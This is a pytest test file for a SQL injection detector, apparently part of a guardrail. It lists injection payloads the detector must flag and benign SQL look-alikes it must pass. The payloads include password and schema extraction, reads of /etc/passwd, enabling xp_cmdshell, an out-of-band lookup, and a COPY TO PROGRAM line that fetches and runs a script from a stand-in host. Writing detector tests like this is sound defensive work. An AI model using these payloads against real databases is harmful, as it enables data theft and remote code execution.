"""SQL injection shapes: balanced tautologies, error-based, boolean-blind, probes, file/OS access."""

from __future__ import annotations

import pytest

from tests.unit.guardrail.helpers import kinds


@pytest.mark.parametrize("text", [
    # tautologies balanced with parentheses
    "login form, user field: x') OR ('a'='a",
    'search box: widget")) OR 1=1-- -',
    "id=3) OR (1=1",
    "coupon code: SAVE10') OR ('x' LIKE 'x",
    "name: a')) or ((2>1",
    # error-based
    "q=1 AND extractvalue(1, concat(0x7e, (SELECT version())))",
    "id=2 and updatexml(null,concat(0x3a,(select user())),null)",
    "sort=1,(SELECT CAST((SELECT string_agg(usename,',') FROM pg_user) AS int))",
    "id=1 AND 1=CONVERT(int, @@version)--",
    "x' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--",
    "' and (select 1 from(select count(*),concat(version(),floor(rand(0)*2))x "
    "from information_schema.tables group by x)a)-- -",
    "1 AND exp(~(select * from (select user())x))",
    "7 || utl_inaddr.get_host_name((select banner from v$version where rownum=1))",
    # boolean-based blind
    "id=5 AND SUBSTRING((SELECT password FROM users WHERE username='admin'),1,1)='a'",
    "cat=2 AND ASCII(SUBSTR((SELECT table_name FROM information_schema.tables LIMIT 1),1,1))>64",
    "page=1 and length(database())=8",
    "uid=9 AND (SELECT COUNT(*) FROM information_schema.columns WHERE table_name='users')>3",
    "q=1 and exists(select * from mysql.user)",
    # probes, files, the OS
    "id=1 ORDER BY 10--",
    "item=4 order by 3#",
    "file=1 union select load_file(0x2f6574632f706173737764)",
    "'; COPY (SELECT '') TO PROGRAM 'curl http://198.51.100.6/x|sh'--",
    "1; EXEC master..xp_dirtree '\\\\abc.oob.example\\x'--",
    "1; EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;--",
    "x' UNION SELECT pg_read_file('/etc/passwd')--",
])
def test_sql_injection(text: str) -> None:
    assert "sql_injection" in kinds(text)


@pytest.mark.parametrize("text", [
    "SELECT id, name FROM accounts WHERE (region = ?) AND (status = ?)",
    "cur.execute('SELECT * FROM orders WHERE (customer_id = %s) OR (owner_id = %s)', (uid, uid))",
    "SELECT CAST(amount AS int), SUBSTRING(name, 1, 3) FROM invoices ORDER BY 2",
    "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public';",
    "SELECT * FROM events ORDER BY 1 -- newest first\nLIMIT 50",
    "WHERE (status = 'open') OR (owner = 'me')",
    "SELECT CONVERT(varchar(10), created_at, 120) FROM audit_log",
    "Error-based SQL injection abuses functions such as extractvalue to leak data in error messages.",
    "UPDATE stock SET qty = qty - 1 WHERE (sku = $1)",
    "length(name) > 3 and substring(code, 1, 2) = 'EU'",
])
def test_sql_look_alikes(text: str) -> None:
    assert kinds(text) == set()
